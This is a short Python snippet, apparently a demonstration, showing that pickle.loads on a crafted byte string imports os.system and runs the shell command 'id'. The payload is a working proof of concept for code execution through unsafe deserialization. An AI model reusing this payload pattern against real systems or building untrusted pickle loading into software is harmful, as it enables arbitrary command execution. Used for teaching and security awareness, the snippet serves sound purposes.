# A pickle runs what it names.
import pickle

pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
